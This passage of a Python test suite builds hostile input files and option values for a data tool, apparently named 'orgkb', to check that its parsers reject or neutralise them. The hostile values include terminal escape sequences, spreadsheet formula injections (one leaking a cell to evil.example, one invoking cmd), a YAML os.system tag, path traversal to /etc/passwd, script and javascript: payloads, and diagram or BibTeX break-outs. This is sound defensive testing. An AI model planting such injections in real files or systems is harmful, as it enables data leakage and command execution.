        _utf8(yaml_profile(branch={"inquiries_per_month": None, "inquiries_per_hour": "1000000"})),
    )


# Profiles: names ------------------------------------------------------------------------------

NAMES = {
    "esc-colour": "\x1b[31mred\x1b[0m",
    "esc-clear-screen": "\x1b[2J\x1b[H",
    "osc-title": "\x1b]0;owned\x07",
    "cr-overwrite": "Xuhui\rEVIL",
    "bel": "Xuhui\x07",
    "newline": "Xu\nhui",
    "tab": "Xu\thui",
    "nul": "Xu\x00hui",
    "del": "Xu\x7fhui",
    "c1-csi": "\x9b31mXuhui",
    "lone-low-surrogate": "Xu\udcffhui",
    "lone-high-surrogate": "\ud83d",
    "u+fffe": "\ufffe",
    "mermaid-init": "%%{init: {'theme': 'dark'}}%%",
    "mermaid-comment": "%% hidden",
    "mermaid-break-out": 'x"] --> evil["y',
    "mermaid-arrow": "A --> B",
    "dot-break-out": 'x" shape=none label="y',
    "double-quote": 'Xu"hui',
    "brace-open": "Xu{hui",
    "brace-close": "Xu}hui",
    "backslash-end": "Xuhui\\",
    "backslash-quote": 'Xu\\"hui',
    "script": "<script>alert(1)</script>",
    "html-entities": "&lt;b&gt; &amp;",
    "rtl-override": "\u202eiuhuX",
    "rtl-mark": "\u200fXuhui",
    "bidi-isolate": "\u2067Xuhui\u2069",
    "zero-width-space": "\u200b",
    "line-separator": "Xu\u2028hui",
    "combining-marks": "e" + "\u0301" * 200,
    "emoji-zwj": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "leading-plus": "+86 21",
    "leading-minus": "-1",
    "leading-at": "@SUM(A1)",
    "looks-like-option": "--help",
    "long": "名" * 10000,
}
"""Names a user could type or paste, each able to break one output or another if passed raw."""
_JSON_NAMES = (
    "lone-low-surrogate",
    "lone-high-surrogate",
    "nul",
    "esc-clear-screen",
    "mermaid-init",
    "dot-break-out",
    "script",
    "long",
)
_CSV_NAMES = (
    "newline",
    "cr-overwrite",
    "formula",
    "leading-minus",
    "mermaid-break-out",
    "double-quote",
)
_OPTION_NAMES = (
    "lone-low-surrogate",
    "osc-title",
    "mermaid-init",
    "backslash-quote",
    "looks-like-option",
    "rtl-override",
)


def name_cases() -> Iterator[Case]:
    for label, name in NAMES.items():
        quoted = yaml_text(name)
        yield Case(
            f"name-yaml-branch-{label}",
            _utf8(
                yaml_profile(branch={"name": quoted, "region": quoted, "projects": f"[{quoted}]"})
            ),
            branches=BRANCHES,
        )
    for label in _JSON_NAMES:
        name = json.dumps(NAMES[label])
        yield Case(
            f"name-json-company-{label}",
            _utf8(json_profile({"company": name}, {"city": name})),
            ".json",
            branches=BRANCHES,
        )
    for label in _CSV_NAMES:
        yield Case(
            f"name-csv-branch-{label}",
            _utf8(
                csv_profile(csv_line(NAMES[label], "Shanghai", NAMES[label], "flats", "2", "4500"))
            ),
            ".csv",
            branches=BRANCHES,
        )
    for label in _OPTION_NAMES:
        # "--company=NAME": a name starting with "-" is a name, not an option.
        yield Case(
            f"name-option-company-{label}",
            _utf8(PROFILE),
            args=(f"--company={NAMES[label]}",),
            branches=BRANCHES,
        )
    # Unit ids built by joining names must not collide: region "A/B" with city "C" and region
    # "A" with city "B/C" are two cities.
    pairs = {
        "slash": (("A/B", "C"), ("A", "B/C")),
        "colon": (("A:B", "C"), ("A", "B:C")),
        "city-prefix": (("city:A", "B"), ("city", "A/B")),
    }
    for label, ((region_1, city_1), (region_2, city_2)) in pairs.items():
        rows = [
            f"{{name: b1, city: {yaml_text(city_1)}, region: {yaml_text(region_1)}}}",
            f"{{name: b2, city: {yaml_text(city_1)}, region: {yaml_text(region_1)}}}",
            f"{{name: b3, city: {yaml_text(city_2)}, region: {yaml_text(region_2)}}}",
            f"{{name: b4, city: {yaml_text(city_2)}, region: {yaml_text(region_2)}}}",
        ]
        yield Case(
            f"ids-{label}-collision",
            _utf8("company: Ids\nbranches:\n" + "".join(f"  - {row}\n" for row in rows)),
            expect=0,
            branches=4,
        )
    yield Case(
        "ids-branch-named-group",
        _utf8(
            "company: group\nbranches:\n  - {name: group, city: group, region: group}\n  - {name: b, city: group, region: group}\n"
        ),
        expect=0,
        branches=2,
    )
    yield Case(
        "ids-region-equals-branch",
        _utf8(
            "company: X\nbranches:\n  - {name: R, city: C, region: R}\n  - {name: C, city: C, region: R}\n  - {name: S, city: D, region: S}\n"
        ),
        expect=0,
        branches=3,
    )
    yield Case(
        "ids-names-differ-only-in-case",
        _utf8("company: X\nbranches:\n  - {name: a, city: c}\n  - {name: A, city: c}\n"),
        branches=2,
    )
    yield Case(
        "ids-names-nfkc-equal",
        _utf8('company: X\nbranches:\n  - {name: A, city: c}\n  - {name: "\\uff21", city: c}\n'),
        branches=2,
    )


def profile_cases() -> list[Case]:
    """Every hostile profile, and every good profile given a hostile ``--company``."""
    return [
        *encoding_cases(),
        *yaml_cases(),
        *json_cases(),
        *csv_cases(),
        *number_cases(),
        *name_cases(),
    ]


# Lead files -----------------------------------------------------------------------------------


def lead_case(
    name: str,
    text: str,
    *,
    encoding: str = "utf-8",
    expect: int | None = None,
    present: tuple[str, ...] = (),
) -> Case:
    """A lead file of *text*; the rows it must keep are counted on the text."""
    data = codecs.BOM_UTF8 + _utf8(text) if encoding == "utf-8-sig" else _encode(text, encoding)
    return Case(name, data, ".csv", expect=expect, rows=physical_rows(text), present=present)


def raw_lead_case(name: str, data: bytes, *, expect: int | None = None) -> Case:
    """A lead file of *data*, not all of it text; the rows are counted on the bytes."""
    return Case(name, data, ".csv", expect=expect, rows=physical_rows(data.decode("latin-1")))


def _many_leads(count: int) -> list[str]:
    cities = ("Shanghai", "Wuhan", "Changsha", "Hangzhou")
    return [
        f"L{index:05d},{'flats' if index % 3 else 'villas'},{cities[index % 4]}"
        for index in range(1, count + 1)
    ]


def lead_cases() -> list[Case]:
    many = _many_leads(10_000)
    header = "id,project,city\n"

    def file(rows: list[str]) -> str:
        return header + "\n".join(rows) + "\n"

    def changed(rows: list[str], at: int, row: str) -> list[str]:
        return [*rows[:at], row, *rows[at + 1 :]]

    cases = [
        lead_case(
            "lead-stray-quote-row-3-of-10000",
            file(changed(many, 2, '"L00003,flats,Shanghai')),
            expect=0,
            present=("L00004", "L10000"),
        ),
        lead_case(
            "lead-stray-quote-mid-row-of-10000",
            file(changed(many, 10, 'L00011,"flats,Shanghai')),
            expect=0,
            present=("L00012", "L10000"),
        ),
        lead_case(
            "lead-stray-quote-end-of-cell",
            file(changed(many[:20], 3, 'L00004,flats,Shanghai"')),
            expect=0,
        ),
        lead_case(
            "lead-quote-then-text",
            file(changed(many[:20], 3, '"L00004"x,flats,Shanghai')),
            expect=0,
        ),
        lead_case(
            "lead-two-stray-quotes-far-apart",
            file(
                changed(changed(many[:3000], 5, '"L00006,flats,Wuhan'), 2500, 'L02501",flats,Wuhan')
            ),
            expect=0,
            present=("L00007", "L02502", "L03000"),
        ),
        lead_case("lead-only-a-quote", file(["L1,flats,Wuhan", '"', "L2,flats,Wuhan"]), expect=0),
        lead_case("lead-last-line-open-quote", header + 'L1,flats,Wuhan\n"L2,flats,Wuhan'),
        lead_case(
            "lead-rows-of-separators",
            file(["L1,flats,Wuhan", ",,", ",", ", ,", "L2,flats,Wuhan", ",,,,"]),
            expect=0,
        ),
        lead_case("lead-only-separator-rows", file([",,", ",,", ",,"]), expect=0),
        lead_case("lead-utf-16-le-bom", LEADS, encoding="utf-16-le", expect=0, present=("L10",)),
        lead_case("lead-utf-16-be-bom", LEADS, encoding="utf-16-be", expect=0),
        lead_case("lead-utf-16-le-bom-10000", file(many), encoding="utf-16-le", expect=0),
        raw_lead_case("lead-utf-16-le-no-bom", LEADS.encode("utf-16-le")),
        lead_case("lead-utf-32-le-bom", LEADS, encoding="utf-32-le"),
        lead_case(
            "lead-utf8-bom-crlf", LEADS.replace("\n", "\r\n"), encoding="utf-8-sig", expect=0
        ),
        lead_case("lead-cr-only", LEADS.replace("\n", "\r"), expect=0),
        lead_case(
            "lead-mixed-line-ends",
            "id,project,city\r\nL1,flats,Wuhan\rL2,flats,Wuhan\nL3,flats,Wuhan\r\n",
            expect=0,
        ),
        lead_case(
            "lead-gb18030",
            "id,project,city\n线索1,住宅,上海\n线索2,别墅,武汉\n",
            encoding="gb18030",
            expect=0,
            present=("线索1", "线索2"),
        ),
        lead_case(
            "lead-gb18030-after-64k-of-ascii",
            file(many[:4000]) + "线索1,住宅,上海\n",
            encoding="gb18030",
            expect=0,
            present=("线索1",),
        ),
        lead_case("lead-semicolon-header", LEADS.replace(",", ";"), expect=2),
        lead_case("lead-tab-header", LEADS.replace(",", "\t")),
        lead_case(
            "lead-header-spaced-and-cased", " ID , Project , CITY \nL1,flats,Wuhan\n", expect=0
        ),
        lead_case("lead-header-reordered", "city,id,project\nWuhan,L1,flats\n", expect=0),
        lead_case(
            "lead-header-after-blank-lines", "\n\n  \nid,project,city\nL1,flats,Wuhan\n", expect=0
        ),
        lead_case("lead-header-only", "id,project,city\n", expect=0),
        lead_case("lead-header-only-no-newline", "id,project,city", expect=0),
        lead_case("lead-header-missing-column", "id,project\nL1,flats\n", expect=2),
        lead_case("lead-header-extra-column", "id,project,city,note\nL1,flats,Wuhan,x\n", expect=2),
        lead_case("lead-header-duplicate-column", "id,project,id\nL1,flats,L1\n", expect=2),
        lead_case("lead-header-typo", "id,projet,city\nL1,flats,Wuhan\n", expect=2),
        lead_case("lead-no-header", "L1,flats,Wuhan\nL2,flats,Wuhan\n", expect=2),
        lead_case("lead-header-stray-quote", '"id,project,city\nL1,flats,Wuhan\n', expect=2),
        lead_case(
            "lead-formula-ids",
            file(
                [
                    csv_line('=HYPERLINK("http://evil.example/?"&A1,"click")', "flats", "Wuhan"),
                    "+1,flats,Wuhan",
                    "-1,flats,Wuhan",
                    "@x,flats,Wuhan",
                    "=1+1,flats,Wuhan",
                    "'=2,flats,Wuhan",
                ]
            ),
            expect=0,
        ),
        lead_case(
            "lead-formula-project-and-city",
            file(["L1,=cmd|' /C calc'!A0,Wuhan", "L2,flats,@Wuhan", "L3,-flats,+Wuhan"]),
            expect=0,
        ),
        lead_case(
            "lead-long-id", file(["L" * 200_000 + ",flats,Wuhan", "L2,flats,Wuhan"]), expect=0
        ),
        lead_case(
            "lead-long-quoted-cell",
            file([csv_line("L1", "f" * 200_000, "Wuhan"), "L2,flats,Wuhan"]),
            expect=0,
        ),
        lead_case(
            "lead-hundred-thousand-columns",
            file([",".join(["x"] * 100_000), "L2,flats,Wuhan"]),
            expect=0,
        ),
        lead_case("lead-quoted-newline-in-id", file(['"L\n1",flats,Wuhan', "L2,flats,Wuhan"])),
        lead_case("lead-quoted-crlf-in-city", file(['L1,flats,"Wu\r\nhan"', "L2,flats,Wuhan"])),
        lead_case(
            "lead-escaped-quotes", file(['"L""1""",flats,Wuhan', "L2,flats,Wuhan"]), expect=0
        ),
        lead_case(
            "lead-u+2028-in-cells",
            file(
                [
                    "L\u20281,flats,Wuhan",
                    "L2,fl\u2029ats,Wuhan",
                    "L3,flats,Wu\x85han",
                    "L4,fl\x0bats,Wu\x0chan",
                ]
            ),
            expect=0,
        ),
        lead_case(
            "lead-controls-in-id",
            file(["\x1b[2JL1,flats,Wuhan", "L2\x07,flats,Wuhan", "L3\x1b]0;owned\x07,flats,Wuhan"]),
            expect=0,
        ),
        lead_case(
            "lead-bidi-in-id", file(["\u202eL1,flats,Wuhan", "L2\u200f,flats,Wuhan"]), expect=0
        ),
        lead_case(
            "lead-short-and-blank-rows",
            file(["L1", "", "   ", "L2,flats", ",flats,Wuhan", " ,flats,Wuhan", "L3,,Wuhan"]),
            expect=0,
        ),
        lead_case("lead-duplicate-ids-everywhere", file(["L1,flats,Wuhan"] * 50), expect=0),
        lead_case(
            "lead-ideographic-spaces",
            file(["\u3000L1\u3000,flats,Wuhan", "L2,\u3000,Wuhan"]),
            expect=0,
        ),
        lead_case("lead-whitespace-only", " \n \t \n", expect=2),
        lead_case("lead-empty", "", expect=2),
        Case("lead-missing-file", None, ".csv", expect=2),
        Case("lead-directory", None, ".csv", expect=2, directory=True),
        raw_lead_case(
            "lead-bad-byte-row-9000-of-10000",
            _utf8(file(many[:8999]))
            + b"L09000\xff,flats,Wuhan\n"
            + _utf8("\n".join(many[9000:]) + "\n"),
        ),
        raw_lead_case(
            "lead-bad-byte-first-row", b"id,project,city\nL\xff1,flats,Wuhan\nL2,flats,Wuhan\n"
        ),
        raw_lead_case(
            "lead-nul-in-row-5",
            _utf8(file(many[:4])) + b"L5\0,flats,Wuhan\n" + _utf8("\n".join(many[5:20]) + "\n"),
        ),
        raw_lead_case(
            "lead-nul-after-64k", _utf8(file(many[:4000])) + b"L\0,flats,Wuhan\nL9,flats,Wuhan\n"
        ),
        raw_lead_case(
            "lead-binary", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)), expect=2
        ),
        raw_lead_case("lead-binary-no-nul", bytes(range(1, 256)) * 4),
        raw_lead_case(
            "lead-gb18030-with-utf8-row",
            "id,project,city\n线索1,住宅,上海\n".encode("gb18030") + "线索2,住宅,上海\n".encode(),
        ),
    ]
    return cases


# Open-workload files --------------------------------------------------------------------------


def workload_cases() -> list[Case]:
    def file(*rows: str) -> bytes:
        return _utf8("branch,open\n" + "\n".join(rows) + "\n")

    counts = {
        "minus-1": "-1", "fraction": "1.5", "empty": "", "space": " ",
        "5000-digits": _digits(5000), "4300-digits": _digits(4300), "400-digits": _digits(400),
        "superscript-two": "\u00b2", "nan": "nan", "inf": "inf", "true": "true", "hex": "0x10",
        "thousands-comma": '"1,000"',
    }  # fmt: skip
    cases = [
        Case(f"load-count-{label}", file(f"Xuhui,{count}"), ".csv", expect=2)
        for label, count in counts.items()
    ]
    cases += [
        Case("load-count-arabic-indic-digits", file("Xuhui,\u0661\u0662"), ".csv"),
        Case("load-count-fullwidth-digits", file("Xuhui,\uff11\uff12"), ".csv"),
        Case("load-count-over-a-trillion", file("Xuhui,1000000000001"), ".csv"),
        Case("load-count-spaced", file("Xuhui, 5 "), ".csv", expect=0),
        # A whole number however written, as a spreadsheet may save it: read, not refused.
        Case("load-count-exponent", file("Xuhui,1e3"), ".csv", expect=0),
        Case("load-count-plus", file("Xuhui,+5"), ".csv", expect=0),
        Case("load-unknown-branch", file("Pudong,3"), ".csv", expect=2),
        Case("load-duplicate-branch", file("Xuhui,3", "Xuhui,4"), ".csv", expect=2),
        Case("load-blank-branch", file(",3"), ".csv", expect=2),
        Case("load-extra-values", file("Xuhui,3,4"), ".csv", expect=2),
        Case("load-stray-quote", file('"Xuhui,3', "Yuelu,2"), ".csv", expect=2),
        Case("load-rows-of-separators", file("Xuhui,3", ",", ",,"), ".csv"),
        Case("load-utf-16-le-bom", _encode(WORKLOAD, "utf-16-le"), ".csv", expect=0),
        Case(
            "load-utf8-bom-crlf",
            codecs.BOM_UTF8 + _utf8(WORKLOAD.replace("\n", "\r\n")),
            ".csv",
            expect=0,
        ),
        Case("load-header-only", _utf8(NO_WORKLOAD), ".csv", expect=0),
        Case("load-semicolon-header", _utf8(WORKLOAD.replace(",", ";")), ".csv", expect=2),
        Case("load-wrong-header", _utf8("name,count\nXuhui,3\n"), ".csv", expect=2),
        Case("load-binary", b"\0\1\2\3" * 64, ".csv", expect=2),
        Case("load-empty", b"", ".csv", expect=2),
        Case("load-missing-file", None, ".csv", expect=2),
        Case("load-formula-branch", file("=Xuhui,3"), ".csv", expect=2),
        Case("load-esc-in-branch", file("\x1b[2JXuhui,3"), ".csv", expect=2),
        Case("load-bad-byte", b"branch,open\nXu\xffhui,3\n", ".csv", expect=2),
    ]
    return cases


# The files tally and the follow-ups read -----------------------------------------------------


def _groups_file(*groups: str) -> bytes:
    return _utf8("groups:\n" + "".join(f"  - {group}\n" for group in groups))


def groups_cases() -> list[Case]:
    """Groups files of ``orgkb tally``, in YAML or JSON, read as safely as a profile."""
    return [
        Case(
            "groups-billion-laughs", _utf8(_billion_laughs().replace("company", "groups")), expect=2
        ),
        Case("groups-nested-flow-1000", _utf8("groups: " + _nested_flow(1000) + "\n"), expect=2),
        Case(
            "groups-json-nested-2000",
            _utf8('{"groups": ' + _nested_flow(2000) + "}"),
            ".json",
            expect=2,
        ),
        Case(
            "groups-merge-key",
            _utf8("b: &b {projects: [flats]}\ngroups:\n  - {<<: *b, name: N}\n"),
            expect=2,
        ),
        Case("groups-raw-esc", _groups_file("{name: N\x1b[2J, projects: [flats]}"), expect=2),
        # NEL is a line break in YAML 1.1, not a control character.
        Case("groups-raw-nel", _groups_file("{name: N\x85x, projects: [flats]}")),
        Case("groups-utf-32", _encode(GROUPS, "utf-32-be"), expect=2),
        Case("groups-binary", b"\x89PNG\r\n\x1a\n\0\0", expect=2),
        Case("groups-empty", b"", expect=2),
        Case("groups-top-list", _utf8("- a\n- b\n"), expect=2),
        Case(
            "groups-python-tag", _utf8("groups: !!python/object/apply:os.system [echo]\n"), expect=2
        ),
        Case(
            "groups-name-5000-digits", _groups_file(f"{{name: {_digits(5000)}, projects: [flats]}}")
        ),
        Case(
            "groups-duplicate-key", _groups_file("{name: N, name: M, projects: [flats]}"), expect=2
        ),
        Case(
            "groups-names-differ-in-case",
            _groups_file("{name: N, projects: [flats]}", "{name: n, projects: [villas]}"),
        ),
        Case(
            "groups-own-both-kinds",
            _groups_file("{name: N, projects: [flats], branches: [Xuhui]}"),
            expect=2,
        ),
        Case(
            "groups-long-names-share-a-project",
            _groups_file(
                f"{{name: {'N' * 100_000}, projects: [flats]}}", "{name: M, projects: [flats]}"
            ),
            expect=2,
        ),
        Case(
            "groups-long-name-owns-both-kinds",
            _groups_file(f"{{name: {'N' * 100_000}, projects: [flats], branches: [Xuhui]}}"),
            expect=2,
        ),
        Case(
            "groups-share-a-project",
            _groups_file("{name: N, projects: [flats]}", "{name: M, projects: [flats]}"),
            expect=2,
        ),
        Case(
            "groups-unknown-branch",
            _groups_file('{name: N, branches: [Nowhere, "\\e[2J"]}'),
            expect=2,
        ),
        Case(
            "groups-hostile-names",
            _groups_file(
                '{name: "=HYPERLINK(\\"x\\")", projects: [flats]}',
                '{name: "@SUM(1)", projects: [villas]}',
                '{name: "\\t-1\\r\\a%%{init}%%", projects: [offices]}',
            ),
            expect=0,
        ),
        Case(
            "groups-json-lone-surrogate",
            _utf8('{"groups": [{"name": "\\udcff", "projects": ["flats"]}]}'),
            ".json",
        ),
        # Thirty thousand groups: each is checked against the others in constant time, or the
        # file takes minutes.
        Case(
            "groups-thirty-thousand",
            _groups_file(*(f"{{name: G{index}, projects: [p{index}]}}" for index in range(30_000))),
            expect=0,
        ),
    ]


def assignments_cases() -> list[Case]:
    """Assignments files of ``orgkb tally``: the CSV ``orgkb allocate`` writes, or like it."""

    def file(*rows: str) -> bytes:
        return _utf8("lead_id,branch,project\n" + "\n".join(rows) + "\n")

    return [
        Case(
            "assigned-stray-quote", file('"L01,Xuhui,flats', "L02,Minhang,flats"), ".csv", expect=2
        ),
        Case("assigned-rows-of-separators", file(",,", "L01,Xuhui,flats", ","), ".csv", expect=0),
        Case("assigned-formulas", file("=1+1,Xuhui,=cmd", "+L02,Minhang,@flats"), ".csv", expect=0),
        Case("assigned-unknown-branch", file("L01,\x1b[2JNowhere,flats"), ".csv", expect=2),
        Case(
            "assigned-as-allocate-escapes",
            _utf8("lead_id,branch,reason,project\n'=L01,Xuhui,,flats\n'+L02,,unknown-city,'-x\n"),
            ".csv",
            expect=0,
        ),
        Case(
            "assigned-bad-byte", b"lead_id,branch,project\nL\xff1,Xuhui,flats\n", ".csv", expect=2
        ),
        Case("assigned-utf-32", _encode(ASSIGNMENTS, "utf-32-le"), ".csv", expect=2),
        Case("assigned-semicolons", _utf8(ASSIGNMENTS.replace(",", ";")), ".csv", expect=2),
        Case("assigned-long-cell", file("L01,Xuhui," + "f" * 300_000), ".csv"),
        Case("assigned-quoted-newline", file('"L\n01",Xuhui,flats'), ".csv", expect=0),
        # U+2028 does not end a CSV row: the row has five values.
        Case("assigned-u+2028", file("L01,Xuhui,flats\u2028L02,Minhang,flats"), ".csv", expect=2),
    ]


def deals_cases() -> list[Case]:
    """Deals files of ``orgkb tally``: one lead id a row."""
    return [
        Case("deals-stray-quote", _utf8('lead_id\n"L01\nL03\n'), ".csv", expect=2),
        Case("deals-rows-of-separators", _utf8("lead_id\n,\n,,\nL01\n"), ".csv"),
        Case("deals-unknown-leads", _utf8("lead_id\nZZZ\n\x1b[2J\n"), ".csv"),
        Case("deals-binary", bytes(range(256)), ".csv", expect=2),
        Case("deals-extra-column", _utf8("lead_id,note\nL01,2\n"), ".csv", expect=2),
        Case("deals-twice", _utf8("lead_id\nL01\nL01\n"), ".csv"),
    ]


def follow_up_cases() -> list[Case]:
    """Follow-ups files of ``orgkb allocate --follow-ups``: when each lead was followed up."""

    def file(*rows: str) -> bytes:
        return _utf8("lead_id,followed_up\n" + "\n".join(rows) + "\n")

    return [
        Case("follow-ups-stray-quote", file('"L01,2026-03-02 09:30', "L02,"), ".csv", expect=2),
        Case(
            "follow-ups-rows-of-separators",
            file(",", ",,", "L01,2026-03-02 09:30"),
            ".csv",
            expect=0,
        ),
        Case("follow-ups-impossible-day", file("L01,2026-02-30 12:00"), ".csv", expect=2),
        Case(
            "follow-ups-400-digit-year", file(f"L01,{_digits(400)}-01-01 00:00"), ".csv", expect=2
        ),
        Case(
            "follow-ups-end-of-time",
            file("L01,9999-12-31 23:59:59.999999", "L02,0001-01-01"),
            ".csv",
            expect=0,
        ),
        Case("follow-ups-esc-in-id", file("\x1b[2JL01,2026-03-02 09:30"), ".csv", expect=0),
        Case("follow-ups-binary", b"\0\1\2" * 100, ".csv", expect=2),
        Case("follow-ups-utf-16-be-bom", _encode(FOLLOW_UPS, "utf-16-be"), ".csv", expect=0),
        Case(
            "follow-ups-header-typo",
            _utf8("lead,followed\nL01,2026-03-02 09:30\n"),
            ".csv",
            expect=2,
        ),
        Case("follow-ups-semicolons", _utf8(FOLLOW_UPS.replace(",", ";")), ".csv", expect=2),
    ]


# Options --------------------------------------------------------------------------------------

_STAFF = {
    "--arrivals-per-hour": "200",
    "--aht": "180",
    "--answer-within": "20",
    "--service-level": "0.8",
}
_BAD_NUMBERS = {
    "1e308": "1e308", "1e-310": "1e-310", "1e999": "1e999", "nan": "nan", "minus-inf": "-inf",
    "minus-1": "-1", "zero": "0", "5000-digits": _digits(5000), "empty": "", "esc": "\x1b[2J",
}  # fmt: skip
_REFUSED = {"1e308", "1e999", "nan", "minus-inf", "minus-1", "5000-digits", "empty", "esc"}


def _staff(**given: str) -> tuple[str, ...]:
    """``orgkb staff`` with good options, the *given* ones as ``--option=value``.

    The ``=`` lets a value start with ``-`` (``--aht=-inf``): as a word of its own, argparse
    would take it for an option.
    """
    hostile = {"--" + name.replace("_", "-"): value for name, value in given.items()}
    good = (
        word
        for option, value in _STAFF.items()
        if option not in hostile
        for word in (option, value)
    )
    return ("staff", *good, *(f"{option}={value}" for option, value in hostile.items()))


def _staff_cases() -> Iterator[OptionCase]:
    for index, option in enumerate((*_STAFF, "--shrinkage", "--max-occupancy")):
        for number, (label, value) in enumerate(_BAD_NUMBERS.items()):
            argv = _staff(**{option.removeprefix("--").replace("-", "_"): value})
            # Zero is a fair shrinkage, answer time and load; 1e-310 caps occupancy so low that
            # the agents needed are unbounded.
            refused = (
                label in _REFUSED
                or (label == "zero" and option in ("--aht", "--service-level", "--max-occupancy"))
                or (label == "1e-310" and option == "--max-occupancy")
            )
            as_json = (index + number) % 2 == 1
            yield OptionCase(
                f"opt-staff{option}-{label}" + "-json" * as_json,
                (*argv, "--format", "json") if as_json else argv,
                option,
                output="json" if as_json else "text",
                expect=2 if refused else None,
            )
    yield OptionCase(
        "opt-staff--max-occupancy-1e-8", _staff(max_occupancy="1e-8"), "--max-occupancy", expect=2
    )
    yield OptionCase(
        "opt-staff--max-occupancy-1e-300",
        _staff(max_occupancy="1e-300"),
        "--max-occupancy",
        expect=2,
    )
    yield OptionCase(
        "opt-staff--service-level-nearly-1",
        _staff(service_level="0.9999999999999999"),
        "--service-level",
    )
    yield OptionCase(
        "opt-staff--shrinkage-nearly-1-json",
        (*_staff(shrinkage="0.9999999999999999"), "--format", "json"),
        "--shrinkage",
        output="json",
    )
    yield OptionCase(
        "opt-staff-a-million-erlangs",
        _staff(arrivals_per_hour="1000000", aht="3600"),
        "--arrivals-per-hour",
    )
    # Written as a word of its own, a value starting with "-" is refused by argparse, whose
    # usage message must then be one line too.
    yield OptionCase(
        "opt-staff--aht-minus-inf-own-word",
        (*_staff(aht="")[:-1], "--aht", "-inf"),
        "--aht",
        expect=2,
    )
    yield OptionCase(
        "opt-staff-over-a-million-erlangs",
        _staff(arrivals_per_hour="1000001", aht="3600"),
        "--arrivals-per-hour",
        expect=2,
    )


def _compare_cases() -> Iterator[OptionCase]:
    decimals = {
        "1e308": "1e308",
        "1e-310": "1e-310",
        "1e400": "1e400",
        "nan": "nan",
        "minus-inf": "-inf",
        "zero": "0",
        "5000-digits": _digits(5000),
    }
    wholes = {
        "1e400": "1e400",
        "5000-digits": _digits(5000),
        "4000-digits": _digits(4000),
        "minus-1": "-1",
        "fraction": "1.5",
        "ten-trillion": "10000000000000",
    }
    for option, values in (("--days-per-month", decimals), ("--leads-per-promoter", decimals), ("--promotion-minimum", wholes),
                           ("--support-team", wholes), ("--coordination-team", wholes)):  # fmt: skip
        for number, (label, value) in enumerate(values.items()):
            as_json = number % 2 == 0
            argv = ("compare", "{profile}", f"{option}={value}")
            yield OptionCase(
                f"opt-compare{option}-{label}" + "-json" * as_json,
                (*argv, "--format", "json") if as_json else argv,
                option,
                output="json" if as_json else "text",
                expect=None if label == "1e-310" else 2,
            )


def _other_cases() -> Iterator[OptionCase]:
    rows = physical_rows(LEADS)
    for label, value, expect in (("4000-digits", _digits(4000), None), ("5000-digits", _digits(5000), 2), ("minus-1", "-1", 0),
                                 ("exponent", "1e3", 0), ("nan", "nan", 2), ("empty", "", 2)):  # fmt: skip
        yield OptionCase(
            f"opt-allocate--seed-{label}",
            ("allocate", "{profile}", "{leads}", f"--seed={value}"),
            "--seed",
            output="csv",
            expect=expect,
            rows=rows,
        )
    urls = {
        "bibtex-break-out": "https://orgkb.example.org/}, note = {owned",
        "brace-open": "https://orgkb.example.org/{",
        "backslash": "https://orgkb.example.org/\\",
        "esc": "https://orgkb.example.org/\x1b[2J",
        "cr": "https://orgkb.example.org/\rEVIL",
        "newline": "https://orgkb.example.org/\n@misc{evil,",
        "empty": "",
        "percent": "https://orgkb.example.org/%s%n%%",
        "long": "https://orgkb.example.org/" + "x" * 100_000,
        "javascript": "javascript:alert(1)",
    }
    for label, url in urls.items():
        for output in (
            ("text", "bibtex") if label in ("bibtex-break-out", "newline", "cr") else ("bibtex",)
        ):
            argv = (
                "cite",
                "one-region.unify-promotion-and-service",
                f"--base-url={url}",
                "--format",
                output,
            )
            yield OptionCase(
                f"opt-cite--base-url-{label}-{output}", argv, "--base-url", output=output
            )
    rule_ids = {"esc": "\x1b[2Jx", "lone-surrogate": "\udcff", "empty": "", "path": "../../etc/passwd",
                "mermaid-init": "%%{init}%%", "long": "r" * 100_000, "newline": "a\nb"}  # fmt: skip
    for label, rule_id in rule_ids.items():
        yield OptionCase(f"opt-cite-rule-id-{label}", ("cite", rule_id), None, expect=2)
    days = {"5000-digits": _digits(5000), "esc": "2026-01-01\x1b[2J", "lone-surrogate": "\udcff",
            "feb-30": "2026-02-30"}  # fmt: skip
    for label, day in days.items():
        argv = ("cite", "R1", "--format", "gbt7714", f"--cited-on={day}")
        yield OptionCase(f"opt-cite--cited-on-{label}", argv, "--cited-on", expect=2)
    yield OptionCase("opt-rules", ("rules",), None, expect=0)
    long = "x" * 100_000
    for name, argv, option in (
        ("opt--lang-long", (f"--lang={long}", "rules"), "--lang"),
        ("opt-rules--format-long", ("rules", f"--format={long}"), "--format"),
        ("opt-chart--view-long", ("chart", "{profile}", f"--view={long}"), "--view"),
    ):
        yield OptionCase(name, argv, option, expect=2)


def option_cases() -> list[OptionCase]:
    """Every command line with a hostile option value, beside good files."""
    return [*_staff_cases(), *_compare_cases(), *_other_cases()]
